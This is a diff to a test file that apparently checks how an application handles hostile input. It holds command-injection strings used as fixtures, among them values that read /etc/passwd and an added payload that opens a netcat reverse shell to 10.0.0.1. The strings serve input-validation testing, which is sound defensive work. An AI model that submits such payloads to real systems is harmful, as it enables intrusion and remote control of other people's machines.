@@ -97,7 +97,7 @@ def test_hostile_sizes_are_bounded():
     # `+` read as a space even when the value has spaces (decoded once more by the application)
     "&&+|+dir c:\\", "a;+cat+/etc/passwd and more",
     # a literal backslash-n where a line break was meant
-    "\\n/usr/bin/id\\n", "|usr/bin/id\\n", "\\nid;",
+    "\\n/usr/bin/id\\n", "|usr/bin/id\\n", "\\nid;", "\";\\\\n. shell nc 10.0.0.1 6666 -e sh\\\\n",
     # a recon command and a separator that ends the value
     "id;", "id|", "uname&",
     # ${PATH:0:1} is "/"
